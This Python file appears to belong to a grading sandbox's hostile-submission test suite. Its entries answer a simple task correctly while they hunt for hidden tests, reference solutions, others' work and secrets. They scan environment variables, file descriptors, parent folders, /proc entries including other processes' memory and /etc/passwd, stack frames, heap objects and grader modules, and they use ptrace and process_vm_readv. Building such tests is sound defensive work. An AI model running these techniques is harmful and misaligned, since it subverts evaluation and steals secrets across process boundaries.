"""Class 1: looks for tests, solutions, other people's work and secrets. An entry that finds none goes on honestly."""

from tests.harness.hostile.entry import Entry, in_each_test, shout


def read(id: str, tries: str, body: str) -> Entry:
    """An entry that prints what it finds during a hidden test, where there is most to find."""
    right = "return 2 * x"
    spilled = f"found = []\n{body.strip()}\nloot.spill(found)\n{right}"
    return Entry(id, 1, tries, in_each_test(right, right, spilled, right))


ENTRIES = (
    read(
        "read-environment",
        "the environment, from Python and from the C library, and all inherited files of the grader",
        """
import ctypes
area, row = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ"), 0
while area[row]:
    found += loot.search(area[row])
    row += 1
found += loot.search(dict(os.environ))
for number in [0, *range(4, 1024)]:
    try:
        os.fstat(number)
        found += [f"descriptor {number}"] if number else []
        found += loot.search(os.pread(number, 1 << 20, 0))
    except OSError:
        continue
""",
    ),
    read(
        "read-files",
        "tests, solutions, the manifest and others' work: by path, through its own folder and links, through /proc",
        """
import glob
found += loot.read([*aim.STAFF, *aim.FOLDERS])
here = os.path.dirname(os.path.abspath(__file__))
above = [here + "/.." * depth for depth in range(1, 12)]
links = [f"link-{number}" for number in range(len(aim.STAFF))]
for link, path in zip(links, aim.STAFF):
    if not os.path.lexists(link):
        os.symlink(path, link)
beside = [f"{path}/{name}" for path in above for name in ("checks", "reference", "homework", "oracles")]
found += [line for line in loot.read([*above, *beside, *links]) if "staging" not in line]
pids = ["self", "1", "2", str(os.getppid()), *map(str, aim.PIDS)]
names = ("environ", "cmdline", "maps", "mem", "fd", "root/etc/passwd", "task")
found += loot.read([*glob.glob("/proc/*"), *(f"/proc/{pid}/{name}" for pid in pids for name in names)])
""",
    ),
    read(
        "read-frames",
        "variables and constants of every calling frame, every module, and all objects of the garbage collector",
        """
import gc
frame = sys._getframe()
while frame:
    found += loot.search(frame.f_locals, frame.f_globals, frame.f_code.co_consts, frame.f_code.co_filename)
    frame = frame.f_back
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing) in (dict, list, set):
        parts = list(thing.values()) if type(thing) is dict else list(thing)
        texts = {part for part in parts if type(part) is str and len(part) < 100 and "-" in part}
        found += loot.search(*texts) if texts else []
staffs = ("checks", "reference", "oracles", "tests", "pytest")
found += [name for name in sys.modules if name.split(".")[0] in staffs]
found += [name for name in aim.GRADER_MODULES if name in sys.modules]
""",
    ),
    read(
        "read-memory",
        "its own memory, a megabyte around each object, in case of secrets in the zygote; memory of other processes",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.write.argtypes = ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t
near = {id(thing) >> 20 for thing in (x, table, sys.modules, object(), "text", b"bytes", os.environ)}
pages = {((block << 20) + step) >> 12 for block in near for step in range(-1 << 20, 2 << 20, 4096)}
receive, send = os.pipe()
for page in sorted(pages):
    if libc.write(send, page << 12, 4096) == 4096:  # an error, not a crash, where nothing is mapped
        found += loot.search(os.read(receive, 4096))
for pid in {os.getppid(), aim.VICTIM, *aim.PIDS} - {0, os.getpid()}:
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(0x400000, 8)
    if libc.ptrace(16, pid, 0, 0) == 0:
        found.append(f"traced {pid}")
    if libc.process_vm_readv(pid, local, 1, remote, 1, 0) >= 0:
        found.append(f"read the memory of {pid}")
""",
    ),
    read(
        "read-imports",
        "imports the tests, the solutions and the grader, by name and by path",
        """
import importlib
sys.path[:0] = [aim.HOMEWORK, *aim.FOLDERS, os.path.dirname(aim.HOMEWORK)]
for name in ("checks.hidden.test_attacked_secretly", "reference.maths", "oracles.answers", "answers",
             *aim.GRADER_MODULES, "tests.support.compare"):
    try:
        found += [f"imported {name}", *loot.search(vars(importlib.import_module(name)))]
    except ImportError:
        continue
""",
    ),
    Entry(
        "read-when-imported",
        1,
        "everything at once, while its module is imported",
        shout(
            "return text.upper() + '!'",
            "loot.spill([*loot.search(dict(os.environ)), *loot.read([*aim.STAFF, *aim.FOLDERS])])",
        ),
    ),
)
